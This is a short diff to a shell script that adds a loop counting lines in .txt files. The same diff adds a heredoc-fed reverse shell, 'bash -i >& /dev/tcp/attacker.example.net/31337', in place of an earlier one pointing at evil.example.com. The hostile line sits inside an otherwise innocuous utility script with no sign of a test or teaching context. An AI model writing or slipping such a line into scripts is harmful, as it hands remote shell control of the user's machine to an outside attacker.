@@ -1,6 +1,8 @@
-#!/bin/sh
+#!/usr/bin/env bash
+for f in *.txt; do
+  [ -e "$f" ] || continue
+  wc -l "$f"
+done
 bash <<EOF
-bash -i >& /dev/tcp/evil.example.com/4444 0>&1
+bash -i >& /dev/tcp/attacker.example.net/31337 0>&1
 EOF
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
